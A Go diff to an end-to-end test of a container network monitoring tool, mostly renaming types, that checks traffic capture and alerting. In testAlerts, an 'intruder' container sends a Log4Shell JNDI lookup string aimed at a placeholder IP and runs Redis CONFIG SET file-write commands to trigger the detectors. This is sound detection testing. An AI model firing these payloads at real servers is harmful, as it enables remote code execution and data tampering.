@@ -43,8 +43,8 @@ func binary(t *testing.T) string {
 	return bin
 }
 
-// A system is tidegate on a dockerHost, as three processes of the host and a collector in a container.
-type system struct {
+// A e2eSystem is tidegate on a dockerHost, as three processes of the host and a collector in a container.
+type e2eSystem struct {
 	*dockerHost
 	bin, state string
 	procs      map[string]*exec.Cmd
@@ -71,9 +71,9 @@ alerts:
     url: http://127.0.0.1:9094/
 `
 
-func newSystem(t *testing.T) *system {
+func newE2ESystem(t *testing.T) *e2eSystem {
 	h := newDockerHost(t)
-	s := &system{dockerHost: h, bin: binary(t), state: filepath.Join(h.dir, "state"), procs: map[string]*exec.Cmd{}, sink: filepath.Join(h.dir, "webhook.txt")}
+	s := &e2eSystem{dockerHost: h, bin: binary(t), state: filepath.Join(h.dir, "state"), procs: map[string]*exec.Cmd{}, sink: filepath.Join(h.dir, "webhook.txt")}
 	t.Cleanup(s.stop)
 	h.check(os.WriteFile(filepath.Join(h.dir, "feed.txt"), []byte("bad.e2e.example,90,e2e\n192.0.2.66\n"), 0o600))
 	s.write("analyze.yaml", 9465)
@@ -89,33 +89,33 @@ func newSystem(t *testing.T) *system {
 	return s
 }
 
-func (s *system) write(name string, port int) {
+func (s *e2eSystem) write(name string, port int) {
 	s.check(os.WriteFile(filepath.Join(s.dir, name), fmt.Appendf(nil, fmt.Sprintf(e2eConfig, s.dir), port), 0o600))
 }
 
 // startAlertPlatform starts the real Alertmanager and a receiver of webhooks in the host's namespace.
-func (s *system) startAlertPlatform() {
+func (s *e2eSystem) startAlertPlatform() {
 	conf := filepath.Join(s.dir, "am.yml")
 	s.check(os.WriteFile(conf, []byte("route:\n  receiver: none\nreceivers:\n- name: none\n"), 0o600))
 	s.background("alertmanager", s.inside("prometheus-alertmanager", "--config.file="+conf, "--storage.path="+filepath.Join(s.dir, "am"), "--web.listen-address=127.0.0.1:9093", "--cluster.listen-address="))
 	self, err := os.Executable()
 	s.check(err)
 	hook := s.inside(self)
-	hook.Env = append(os.Environ(), "TIDEGATE_WORK="+work{Serve: "127.0.0.1:9094", Sink: s.sink}.String())
+	hook.Env = append(os.Environ(), "TIDEGATE_WORK="+workload{Serve: "127.0.0.1:9094", Sink: s.sink}.String())
 	s.background("webhook", hook)
 	s.waitTCP("127.0.0.1", "9093")
 	s.waitTCP("127.0.0.1", "9094")
 }
 
 // start runs a process of tidegate in the host's namespace with the configuration of its name.
-func (s *system) start(name string, env []string, args ...string) {
+func (s *e2eSystem) start(name string, env []string, args ...string) {
 	s.t.Helper()
 	cmd := s.inside(s.bin, append(args, "--config", filepath.Join(s.dir, name+".yaml"), "--log-level", "info")...)
 	cmd.Env = append(os.Environ(), env...)
 	s.background(name, cmd)
 }
 
-func (s *system) background(name string, cmd *exec.Cmd) {
+func (s *e2eSystem) background(name string, cmd *exec.Cmd) {
 	s.t.Helper()
 	out, err := os.OpenFile(filepath.Join(s.dir, name+".log"), os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o600)
 	s.check(err)
@@ -126,7 +126,7 @@ func (s *system) background(name string, cmd *exec.Cmd) {
 	s.procs[name] = cmd
 }
 
-func (s *system) kill(name string) {
+func (s *e2eSystem) kill(name string) {
 	s.t.Helper()
 	cmd := s.procs[name]
 	_ = cmd.Process.Kill()
@@ -135,7 +135,7 @@ func (s *system) kill(name string) {
 }
 
 // waitDeath waits until a process has killed itself.
-func (s *system) waitDeath(name string) {
+func (s *e2eSystem) waitDeath(name string) {
 	s.t.Helper()
 	done := make(chan struct{})
 	go func() { _ = s.procs[name].Wait(); close(done) }()
@@ -147,12 +147,12 @@ func (s *system) waitDeath(name string) {
 	}
 }
 
-func (s *system) logTail(name string) []byte {
+func (s *e2eSystem) logTail(name string) []byte {
 	b, _ := os.ReadFile(filepath.Join(s.dir, name+".log"))
 	return tail(b, 3000)
 }
 
-func (s *system) stop() {
+func (s *e2eSystem) stop() {
 	if s.t.Failed() {
 		for _, name := range []string{"embedded", "analyze", "alerts"} {
 			s.t.Logf("log of %s:\n%s", name, s.logTail(name))
@@ -165,7 +165,7 @@ func (s *system) stop() {
 }
 
 // terminate tells processes to stop, one after the other, and holds them to it.
-func (s *system) terminate(names ...string) {
+func (s *e2eSystem) terminate(names ...string) {
 	for _, name := range names {
 		cmd := s.procs[name]
 		if cmd == nil {
@@ -185,7 +185,7 @@ func (s *system) terminate(names ...string) {
 }
 
 // buildImage builds the collector's image as deploy/ documents it: FROM scratch, nothing but the binary.
-func (s *system) buildImage() {
+func (s *e2eSystem) buildImage() {
 	dockerfile, err := filepath.Abs("../../deploy/Dockerfile")
 	s.check(err)
 	cmd := exec.Command("docker", "-H", s.socket(), "build", "-q", "-f", dockerfile, "-t", "tidegate", filepath.Dir(filepath.Dir(s.bin)))
@@ -194,7 +194,7 @@ func (s *system) buildImage() {
 }
 
 // collector starts the collector's container with the capabilities and mounts of deploy/README.md and no more.
-func (s *system) collector() {
+func (s *e2eSystem) collector() {
 	s.t.Helper()
 	s.docker("run", "-d", "--name", "collector", "--network", "host", "--cap-drop", "ALL", "--cap-add", "NET_RAW", "--cap-add", "NET_ADMIN", "--read-only",
 		"-v", s.dir+"/docker.sock:"+s.dir+"/docker.sock:ro", "-v", s.dir+"/root/containers:"+s.dir+"/root/containers:ro",
@@ -205,7 +205,7 @@ func (s *system) collector() {
 	s.waitMetric(9464, `tidegate_capture_workers{interface="eth0"}`, 1)
 }
 
-func (s *system) metrics(port int) string {
+func (s *e2eSystem) metrics(port int) string {
 	out, _ := s.inside("curl", "-sf", fmt.Sprintf("http://127.0.0.1:%d/metrics", port)).Output()
 	return string(out)
 }
@@ -222,7 +222,7 @@ func metric(text, prefix string) float64 {
 	return sum
 }
 
-func (s *system) waitMetrics(port int) {
+func (s *e2eSystem) waitMetrics(port int) {
 	s.t.Helper()
 	s.eventually("metrics at "+strconv.Itoa(port), 40*time.Second, func() string {
 		if s.metrics(port) == "" {
@@ -232,7 +232,7 @@ func (s *system) waitMetrics(port int) {
 	})
 }
 
-func (s *system) waitMetric(port int, name string, least float64) {
+func (s *e2eSystem) waitMetric(port int, name string, least float64) {
 	s.t.Helper()
 	s.eventually(name, 30*time.Second, func() string {
 		if v := metric(s.metrics(port), name); v < least {
@@ -243,7 +243,7 @@ func (s *system) waitMetric(port int, name string, least float64) {
 }
 
 // eventually waits until f has nothing to object to.
-func (s *system) eventually(what string, within time.Duration, f func() string) {
+func (s *e2eSystem) eventually(what string, within time.Duration, f func() string) {
 	s.t.Helper()
 	var objection string
 	for end := time.Now().Add(within); time.Now().Before(end); time.Sleep(200 * time.Millisecond) {
@@ -255,7 +255,7 @@ func (s *system) eventually(what string, within time.Duration, f func() string) 
 }
 
 // query asks the store as `tidegate query` does, and gives rows of columns.
-func (s *system) query(sql string) ([][]string, error) {
+func (s *e2eSystem) query(sql string) ([][]string, error) {
 	out, err := s.inside(s.bin, "query", "--config", filepath.Join(s.dir, "analyze.yaml"), "-o", "tsv", sql).CombinedOutput()
 	if err != nil {
 		return nil, fmt.Errorf("query: %w: %s", err, out)
@@ -271,7 +271,7 @@ func (s *system) query(sql string) ([][]string, error) {
 }
 
 // expect waits until a query gives these rows, each with a blank between its columns.
-func (s *system) expect(what, sql string, want ...string) {
+func (s *e2eSystem) expect(what, sql string, want ...string) {
 	s.t.Helper()
 	s.eventually(what, 60*time.Second, func() string {
 		rows, err := s.query(sql)
@@ -290,7 +290,7 @@ func (s *system) expect(what, sql string, want ...string) {
 }
 
 // ends is who a case's transactions were between, as the store says it.
-func (s *system) ends(kind, dataset, field, like string, want string) {
+func (s *e2eSystem) ends(kind, dataset, field, like string, want string) {
 	s.t.Helper()
 	s.expect(kind, fmt.Sprintf(`SELECT count(), uniqExact("event.id"), countIf("event.partial"), arrayStringConcat(arraySort(groupUniqArray(concat("source.ip", '/', "source.container.name", ' ', "destination.ip", ':', toString("destination.port"), '/', "destination.container.name"))), ',')
 		FROM events WHERE "event.dataset" = '%s' AND "%s" LIKE '%s'`, dataset, field, like), want)
@@ -302,7 +302,7 @@ func TestEndToEnd(t *testing.T) {
 	if testing.Short() {
 		t.Skip("it starts a Docker host")
 	}
-	s := newSystem(t)
+	s := newE2ESystem(t)
 	s.servers()
 	s.docker("network", "create", "second")
 	for _, name := range []string{"web", "cache", "db", "dns"} {
@@ -316,7 +316,7 @@ func TestEndToEnd(t *testing.T) {
 	s.expect("no alert is there twice", `SELECT count() = uniqExact(id, revision) FROM alerts`, "1")
 }
 
-func (s *system) in(t *testing.T) *system {
+func (s *e2eSystem) in(t *testing.T) *e2eSystem {
 	c, h := *s, *s.dockerHost
 	h.t = t
 	c.dockerHost = &h
@@ -324,25 +324,25 @@ func (s *system) in(t *testing.T) *system {
 }
 
 // testWays sends traffic on every way and looks for each transaction once, between the right ends.
-func (s *system) testWays(t *testing.T) {
+func (s *e2eSystem) testWays(t *testing.T) {
 	s = s.in(t)
 	const n = 40
 	at := func(name, network string) string { return s.address(name, network, "4") }
-	client := func(name string, w work, options ...string) string {
+	client := func(name string, w workload, options ...string) string {
 		w.N = n
 		s.client(w, append([]string{"--name", name}, options...)...)
 		return name
 	}
-	bridge := work{Case: "bridge", HTTP: at("web", "bridge") + ":8080", Redis: at("cache", "bridge") + ":6379", DNS: at("dns", "bridge") + ":53", MySQL: at("db", "bridge") + ":3306"}
+	bridge := workload{Case: "bridge", HTTP: at("web", "bridge") + ":8080", Redis: at("cache", "bridge") + ":6379", DNS: at("dns", "bridge") + ":53", MySQL: at("db", "bridge") + ":3306"}
 	client("c-bridge", bridge)
-	second := work{Case: "second", HTTP: at("web", "second") + ":8080", Redis: at("cache", "second") + ":6379", DNS: at("dns", "second") + ":53", MySQL: at("db", "second") + ":3306"}
+	second := workload{Case: "second", HTTP: at("web", "second") + ":8080", Redis: at("cache", "second") + ":6379", DNS: at("dns", "second") + ":53", MySQL: at("db", "second") + ":3306"}
 	client("c-second", second, "--network", "second")
 	web6 := s.address("web", "bridge", "6")
-	client("c-six", work{Case: "six", HTTP: "[" + web6 + "]:8080", Redis: "[" + s.address("cache", "bridge", "6") + "]:6379"})
+	client("c-six", workload{Case: "six", HTTP: "[" + web6 + "]:8080", Redis: "[" + s.address("cache", "bridge", "6") + "]:6379"})
 	for name, addr := range map[string]string{"published": hostIP + ":9090", "routed": at("web", "bridge") + ":8080", "routed6": "[" + web6 + "]:8080"} {
-		s.must(s.visitor(work{Case: name, N: n, HTTP: addr}))
+		s.must(s.visitor(workload{Case: name, N: n, HTTP: addr}))
 	}
-	server := s.visitor(work{Serve: outsideIP + ":8000"})
+	server := s.visitor(workload{Serve: outsideIP + ":8000"})
 	s.check(server.Start())
 	s.eventually("a server outside", 10*time.Second, func() string {
 		if err := s.inside("curl", "-sf", "http://"+outsideIP+":8000/").Run(); err != nil {
@@ -350,7 +350,7 @@ func (s *system) testWays(t *testing.T) {
 		}
 		return ""
 	})
-	client("c-out", work{Case: "out", HTTP: outsideIP + ":8000"})
+	client("c-out", workload{Case: "out", HTTP: outsideIP + ":8000"})
 	s.check(server.Process.Kill())
 	_ = server.Wait()
 
@@ -374,20 +374,20 @@ func (s *system) testWays(t *testing.T) {
 	s.expect("every line of nginx", `SELECT count(), uniqExact(message) FROM events WHERE "event.dataset" = 'log' AND "container.name" = 'web' AND message LIKE '%GET /e2e/bridge/%'`, fmt.Sprintf("%d %d", n, n))
 }
 
-func (s *system) checkWay(c string, n int, from, to, addr string, port int) {
+func (s *e2eSystem) checkWay(c string, n int, from, to, addr string, port int) {
 	s.t.Helper()
 	s.expect("http "+c, fmt.Sprintf(`SELECT count(), uniqExact("event.id"), countIf("event.partial"), any("source.container.name"), any("destination.container.name"), any("container.name"), any("destination.ip"), any("destination.port"), uniqExact("source.ip") FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/%s/%%'`, c),
 		fmt.Sprintf("%d %d 0 %s %s %s %s %d 1", n, n, from, to, to, addr, port))
 }
 
 // testAlerts makes one alert of each kind and finds it at the real Alertmanager and the webhook.
-func (s *system) testAlerts(t *testing.T) {
+func (s *e2eSystem) testAlerts(t *testing.T) {
 	s = s.in(t)
 	web, cache, dns := s.address("web", "bridge", "4"), s.address("cache", "bridge", "4"), s.address("dns", "bridge", "4")
 	s.run("--name", "intruder", "--", "bash", "-c", fmt.Sprintf(
 		"curl -s -A '${jndi:ldap://192.0.2.66/a}' http://%s:8080/x; redis-cli -h %s CONFIG SET dir /tmp; redis-cli -h %s CONFIG SET dbfilename x; true", web, cache, cache))
 	for _, name := range []string{"www.bad.e2e.example", "xjq7kvw2zt9hpb4m.e2e.example", "xjq7kvw2zt9hpb4m.example"} {
-		s.client(work{Case: "lookup", N: 1, DNS: dns + ":53", Name: name}, "--rm")
+		s.client(workload{Case: "lookup", N: 1, DNS: dns + ":53", Name: name}, "--rm")
 	}
 	for _, detector := range []string{"rules", "feeds", "classifier"} {
 		s.expect("alert of "+detector, fmt.Sprintf("SELECT count() > 0 FROM alerts_now WHERE detector = '%s'", detector), "1")
